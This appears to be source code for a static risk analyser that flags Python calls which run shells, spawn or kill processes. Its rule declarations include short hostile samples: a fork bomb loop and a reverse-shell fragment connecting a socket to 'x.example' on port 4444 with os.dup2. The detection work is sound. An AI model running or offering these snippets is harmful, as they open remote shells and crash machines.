"""Functions of Python that start and end processes."""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

from tree_sitter import Node

from app.risk.commands.table import Command, read_command
from app.risk.effects import (
    CONNECTS,
    DOWNLOADED,
    DYNAMIC,
    GIVES_SECRETS,
    HIDDEN,
    run_dynamic,
)  # fmt: skip
from app.risk.python import nodes, tables
from app.risk.python.clients import Use, library
from app.risk.python.expressions import is_environment
from app.risk.python.values import ANY, Value, text_of
from app.risk.rules import declare
from app.risk.shell.environment import set_variable
from app.risk.shell.listings import lists_all
from app.risk.words import UNKNOWN
from assent.contracts import RiskLevel

if TYPE_CHECKING:
    from app.risk.python.calls import Call

from app.risk.python.dynamic_code import run_code
from app.risk.python.functions import function

FORK_BOMB = declare(
    "python.fork_bomb", RiskLevel.CRITICAL, "Starts processes without end.",
    "import os\nwhile True:\n    os.fork()", "import os\nos.getpid()", language="python",
)  # fmt: skip
REVERSE_SHELL = declare(
    "python.reverse_shell", RiskLevel.CRITICAL, "Gives another machine a shell on this one.",
    "import socket, os\ns = socket.socket()\ns.connect(('x.example', 4444))\nos.dup2(s.fileno(), 0)",
    "import socket\ns = socket.socket()\ns.connect(('x.example', 80))", language="python",
)  # fmt: skip
ENDS_PROCESS = declare(
    "python.ends_process", RiskLevel.MEDIUM, "Ends a process.", "import os\nos.kill(4711, 9)", "import os\nos.getpid()",
    language="python",
)  # fmt: skip


CRITICAL = RiskLevel.CRITICAL


@function(tables.SHELL)
def _shell(made: Call) -> Value:
    before = len(made.reading.findings)
    read_shell(made, made.argument(0, "cmd", "command"))
    return _output(made, before)


def read_shell(made: Call, value: Value) -> None:
    """Read a text that a shell runs."""
    if value.text is None or not value.text.replace(UNKNOWN, "").strip():
        if made.marks & {"download", "decoded"}:
            run_code(made, value, "shell")
        else:
            made.evaluator.note_given_run(made.line)
            run_dynamic(made.reading, made.word(value), made.line)
        return
    if UNKNOWN in value.text and "quoted" not in value.marks:
        words = "A value that is known only when it runs becomes a part of a shell command, and may add commands to it."
        made.reading.add(DYNAMIC, words, made.line)
    if "decoded" in value.marks:
        made.reading.add(HIDDEN, "This decodes a hidden command and runs it.", made.line)
    _note_files(made, value.text)
    made.reading.read("shell", value.text.replace(UNKNOWN, "${assent_unknown}"), made.line, fixed=True)


@function(tables.RUNS)
def _run(made: Call) -> Value:
    given = made.argument(0, "args")
    shell = "shell" in made.keywords and made.keywords["shell"].name != "builtins.False" and not made.is_false("shell")
    text = made.argument(99, "input", "stdin")
    text = ANY if text.kind in ("file", "socket") or text.name else text
    _note_environment(made)
    folder = made.keywords.get("cwd", ANY)
    before = len(made.reading.findings)
    with made.reading.from_folder(text_of(folder) if folder.text is not None else ""):
        _started(made, given, text, shell=shell)
    return _output(made, before)


def _output(made: Call, before: int) -> Value:
    """Return a process, whose output is a secret if it reads one."""
    secret = any(found.rule in GIVES_SECRETS for found in made.reading.findings[before:])
    dump = any(found.rule == "database.dumps" for found in made.reading.findings[before:])
    fetched = any(found.rule == CONNECTS.id for found in made.reading.findings[before:])
    given = made.argument(0, "args")
    words = [made.word(item) for item in given.items or ()]
    harmless = all(found.severity.rank < CRITICAL.rank - 1 for found in made.reading.findings[before:])
    lists = bool(words) and harmless and all(word.known for word in words) and lists_all(Command(words))
    shell = len(words) == 1 and (words[0].text.rpartition("/")[2] in _SHELLS)
    found_marks = (("secret", secret), ("dump", dump), ("download", fetched), ("listed", lists), ("shell", shell))
    return Value(kind="process", marks=frozenset(mark for mark, true in found_marks if true))


_SHELLS = ("sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh")


def tell_shell(made: Call) -> None:
    """Note what is written to a shell that runs."""
    if "shell" in made.base.marks and made.method in ("communicate", "write") and made.arguments:
        read_shell(made, made.arguments[0])


def _note_environment(made: Call) -> None:
    """Note which variables a program is started with. What others than written ones make of it is not known."""
    given = made.node.child_by_field_name("arguments")
    for part in given.named_children if given is not None else []:
        name = part.child_by_field_name("name") if part.type == "keyword_argument" else None
        if name is None or nodes.text(name) != "env":
            continue
        value = part.child_by_field_name("value")
        if value is not None and value.type == "dictionary":
            for pair in value.named_children:
                _note_variable(made, pair)
        elif not is_environment(made.keywords["env"]) and nodes.text(value) != "None":
            made.reading.doubt()


def _note_variable(made: Call, pair: Node) -> None:
    if pair.type != "pair":
        if pair.type == "dictionary_splat" and not is_environment(made.evaluator.visit(pair)):
            made.reading.doubt()
        return
    name = made.evaluator.visit(pair.child_by_field_name("key"))
    value = made.evaluator.visit(pair.child_by_field_name("value"))
    if name.known:
        set_variable(made.reading, name.text or "", made.word(value))
    else:
        made.reading.doubt()


@function(["os.environ.update"])
def _update_environment(made: Call) -> Value:
    for name, value in made.keywords.items():
        set_variable(made.reading, name, made.word(value))
    given = made.node.child_by_field_name("arguments")
    for part in given.named_children if given is not None else []:
        if part.type == "dictionary":
            for pair in part.named_children:
                _note_variable(made, pair)
        elif part.type != "keyword_argument":
            made.reading.doubt()
    return ANY


def _started(made: Call, given: Value, text: Value, *, shell: bool) -> None:
    if any(made.keywords.get(name, ANY).kind == "socket" for name in ("stdin", "stdout", "stderr")):
        made.reading.add(REVERSE_SHELL, "This gives another machine a program on this one.", made.line)
    program = made.keywords.get("executable", ANY)
    if program != ANY and not shell:
        given = Value(items=(program, *(given.items or ())[1:]))
    if given.items is not None and not shell:
        run_words(made, given.items, text)
    elif given.items and shell:
        read_shell(made, given.items[0])
    elif given.text is not None and not shell and " " not in given.text:
        run_words(made, (given,), text)
    else:
        read_shell(made, given)


def run_words(made: Call, items: Iterable[Value], given_input: Value = ANY) -> None:
    """Read a program that is started with a list of arguments."""
    words = [made.word(item) for item in items]
    if not words:
        return
    _note_files(made, " ".join(word.text for word in words))
    known = given_input.word(made.line) if given_input.known else None
    source = next((mark for mark in ("download", "decoded", "secret") if mark in given_input.marks), "unknown")
    read_command(Command(words, input=known, input_from="" if known else source), made.reading)


def _note_files(made: Call, text: str) -> None:
    """Look into files that the text itself has written or downloaded, and runs now."""
    for path, content in list(made.evaluator.written.items()):
        if path and path in text:
            language = "python" if path.endswith(".py") else "shell"
            made.reading.read(language, content, made.line, fixed=True, within=f"In {path[:60]}: ")
    for path in made.evaluator.downloaded:
        if path and path in text:
            made.reading.add(DOWNLOADED, f"This runs {path[:60]}, which was downloaded before.", made.line)


@function(["pexpect.spawn", "pexpect.run", "pexpect.runu", "pexpect.spawnu", "pexpect.popen_spawn.PopenSpawn"])
def _talked_to(made: Call) -> Value:
    given = made.argument(1, "args")
    if given.items:
        run_words(made, [made.argument(0, "command"), *given.items])
    else:
        read_shell(made, made.argument(0, "command"))
    return Value(kind="pexpect.spawn")


@library("sh")
def _as_function(use: Use) -> Value | None:
    """Read a call of ``sh``, whose functions are programs."""
    made = use.made
    if use.method in ("Command", "bake", "pushd", "contrib"):
        return Value(made.argument(0).text, kind=use.result().kind)
    parts = [part for part in (*use.path[1:], use.method) if part not in ("sudo", "contrib")]
    options = [Value(f"--{name.replace('_', '-')}") for name in made.keywords if not name.startswith("_")]
    run_words(made, [*(Value(part.replace("_", "-")) for part in parts), *made.arguments, *options])
    return Value(kind="process")


@library("plumbum")
def _combined(use: Use) -> Value | None:
    """Read a call of ``plumbum``, whose commands are given their arguments in brackets and called afterwards."""
    parts = [part for part in (*use.path[1:], use.method) if part not in ("cmd", "local", "machines", "[]")]
    if use.method in ("FG", "BG", "cwd", "env", "path", "SshMachine") or not parts:
        return use.result()
    more = use.made.arguments or [Value(UNKNOWN)]
    run_words(use.made, [*map(Value, parts), *more])
    return Value(kind="process")


@function(["pip.main", "pip._internal.main"])
def _pip(made: Call) -> Value:
    run_words(made, [Value("pip"), *(made.argument(0, "args").items or (Value(UNKNOWN),))])
    return ANY


@function(tables.RUNS_LIST)
def _run_arguments(made: Call) -> Value:
    leave = 1 if ".spawn" in made.shown else 0
    items = made.arguments[leave:]
    # The first argument is the program; of exec and spawn, the second is its name again.
    run_words(made, [items[0], *items[2:]] if ".create_" not in made.shown and len(items) > 1 else items)
    return Value(kind="process")


@function(tables.RUNS_ARGV)
def _run_vector(made: Call) -> Value:
    if made.method == "spawn" and "socket" in made.evaluator.facts:
        made.reading.add(REVERSE_SHELL, "This gives another machine a shell on this one.", made.line)
    arguments = made.arguments[1:] if made.method.startswith("spawnv") else made.arguments
    if not arguments:
        return ANY
    program, rest = arguments[0], arguments[1].items if len(arguments) > 1 else None
    if program.items is not None:
        run_words(made, program.items)
    elif rest is not None:
        run_words(made, [program, *rest[1:]])
    elif len(arguments) > 1:
        run_dynamic(made.reading, made.word(ANY), made.line)
    else:
        run_words(made, [program])
    return Value(kind="process")


@function(["os.dup2"])
def _duplicate(made: Call) -> Value:
    if "socket" in made.evaluator.facts:
        made.reading.add(REVERSE_SHELL, "This connects a program's input and output to another machine.", made.line)
    return ANY


@function(["os.fork"])
def _fork(made: Call) -> Value:
    if made.evaluator.loops:
        made.reading.add(FORK_BOMB, "This starts processes in a loop until the machine stops answering.", made.line)
    return ANY


@function(["psutil.process_iter"])
def _processes(made: Call) -> Value:
    return Value(kind="psutil.Process", marks=frozenset({"listed"}))


@function(["pytest.main"])
def _tests(made: Call) -> Value:
    run_words(made, [Value("pytest"), *(made.argument(0, "args").items or ())])
    return ANY


@function(["os.kill", "os.killpg", "psutil.Process.kill", "psutil.Process.terminate"])
def _kill(made: Call) -> Value:
    target = made.argument(0, "pid")
    if made.argument(1, "sig", "signal").number == 0:
        # This only asks whether the process is there.
        return ANY
    all_of_them = target.number in (-1, 0, 1)
    if "listed" in made.base.marks and made.many and not made.filtered:
        made.reading.add(ENDS_PROCESS, "This ends every process.", made.line, RiskLevel.CRITICAL)
        return ANY
    level = (
        RiskLevel.CRITICAL if target.number in (-1, 1) else RiskLevel.HIGH if made.evaluator.loops else RiskLevel.MEDIUM
    )
    words = "This ends every process." if all_of_them else "This ends a process."
    made.reading.add(ENDS_PROCESS, words, made.line, level)
    return ANY
